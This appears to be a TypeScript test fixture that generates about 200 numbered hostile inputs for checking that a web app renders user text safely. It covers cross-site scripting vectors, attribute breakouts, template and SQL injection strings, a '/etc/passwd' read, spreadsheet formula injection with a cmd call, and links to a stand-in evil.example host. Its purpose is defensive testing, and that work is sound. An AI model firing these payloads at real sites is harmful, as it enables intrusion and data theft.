/** Runs where a page lets it: the test gives every page a function of this name that tells on whoever calls it. */
const call = (id: number) => `ran(${id})`

type Pattern = (run: string) => string

/** Elements; each has the attribute `p`, by which it is found should it ever become one. */
const elements: readonly Pattern[] = [
  (run) => `<script p>${run}</script>`,
  (run) => `<ScRiPt p>${run}//`,
  (run) => `<img p src=x onerror=${run}>`,
  (run) => `<IMG p """><script>${run}</script>">`,
  (run) => `<svg p onload=${run}>`,
  (run) => `<svg/p/onload=${run}>`,
  (run) => `<svg p><script>${run}</script></svg>`,
  (run) => `<svg p><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg p><use href="data:image/svg+xml,x#${run}"/></svg>`,
  (run) => `<svg p><foreignObject><body onload=${run}>`,
  (run) => `<math p><mtext><style><img p src=x onerror=${run}>`,
  (run) => `<iframe p srcdoc="<script>parent.${run}</script>">`,
  (run) => `<iframe p src="javascript:parent.${run}">`,
  (run) => `<object p data="javascript:${run}">`,
  (run) => `<embed p src="javascript:${run}">`,
  (run) => `<body p onload=${run}>`,
  (run) => `<input p autofocus onfocus=${run}>`,
  (run) => `<details p open ontoggle=${run}>`,
  (run) => `<video p><source onerror=${run}></video>`,
  (run) => `<a p href="javascript:${run}">x</a>`,
  (run) => `<form p action="javascript:${run}"><button>x`,
  (run) => `<base p href="//evil.example/?${run}">`,
  (run) => `<meta p http-equiv=refresh content="0;javascript:${run}">`,
  (run) => `<link p rel=stylesheet href="//evil.example/${run}">`,
  (run) => `<style p>@import "//evil.example/${run}"</style>`,
  (run) => `<template p><script>${run}</script></template>`,
  (run) => `<marquee p onstart=${run}>`,
  (run) => `<vs-child-page p onclick=${run}>`,
]
/** What would have to end first, for an element to begin there. */
const endings = ['', '">', "'>", '-->', '</textarea>']

const others: readonly Pattern[] = [
  // Out of an attribute.
  (run) => `" onmouseover="${run}" p="`,
  (run) => `' autofocus onfocus='${run}' p='`,
  (run) => `\` onload=${run} p=\``,
  (run) => `x onpointerenter=${run} p`,
  (run) => `"style="animation-name:x"onanimationstart="${run}"p="`,
  (run) => `\\"-${run}}//`,
  // Addresses.
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}//`,
  (run) => `java&#x09;script:${run}`,
  (run) => `javascript://%0a${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `vbscript:${run}`,
  (run) => `https://evil.example/${run}`,
  (run) => `//evil.example/${run}`,
  (run) => `mailto:x@evil.example?body=${run}`,
  (run) => `../../api/me?${run}`,
  // Templates of many makers, ours and the printed report's among them.
  (run) => `\${${run}}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `<%= ${run} %>`,
  (run) => `#{${run}}`,
  (run) => `{% ${run} %}`,
  (run) => `<!--?lit$0123456789$-->${run}`,
  (run) => `<?lit$1$ ${run}?>`,
  (run) => `{{lit-1}} ${run}`,
  (run) => `#eval("${run}")`,
  (run) => `#read("/etc/passwd") ${run}`,
  (run) => `#link("//evil.example")[${run}] @x $x$`,
  (run) => `\\u003cimg src=x onerror=${run}\\u003e`,
  (run) => `&lt;img src=x onerror=${run}&gt;`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `__proto__ constructor ${run}`,
  (run) => `'); drop table child; -- ${run}`,
  // Formulas.
  (run) => `=HYPERLINK("//evil.example","${run}")`,
  (run) => `=cmd|' /C ${run}'!A0`,
  (run) => `+1+1 ${run}`,
  (run) => `-2+3 ${run}`,
  (run) => `@SUM(1) ${run}`,
  (run) => `|x ${run}`,
  (run) => `%x ${run}`,
  (run) => `\u00a0=1+1 ${run}`,
  (run) => `＝1+1 ${run}`,
  (run) => `a;=1+1 ${run}`,
  (run) => `'=1+1 ${run}`,
  (run) => `",=1+1 ${run}`,
  // What hides in a text, or piles up.
  (run) => `a\u200b\u200d\u2060b ${run}`,
  (run) => `${'\u0301\u0323'.repeat(12)}a ${run}`,
  (run) => `👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 ${run}`,
  (run) => `ﷺﷺ 𝒻𝒻 ${run}`,
  (run) => `${'W'.repeat(60)}${run}`,
  (run) => `${'a '.repeat(25)}${run}`,
]

/** A hostile text, of at most 80 characters, that nobody takes for another one: its number stands in it. */
export interface Payload {
  readonly id: number
  readonly text: string
}

/** About 200 texts that are nothing but text; on a page, in a file or on paper they stand as they were typed. */
export const payloads: readonly Payload[] = [
  ...endings.flatMap((ending) =>
    elements.map(
      (pattern): Pattern =>
        (run) =>
          `${ending}${pattern(run)}`,
    ),
  ),
  ...others,
].map((pattern, id) => ({ id, text: pattern(call(id)).normalize('NFC') }))

/** Texts that no keyboard writes, or that turn what stands beside them round: a form refuses them. */
export const unkeepable: readonly string[] = [
  'a\u0000b',
  '\u0000',
  'a\ud800',
  '\udfffa',
  '\udc00\ud800',
  '\u0001\u0008\u001b[31m',
  '\u2028\u200b',
  '\u202eran(1)\u202c',
  'a\u2066b\u2069',
  '\u200fa',
  '\u061ca',
  '\u0085a',
]
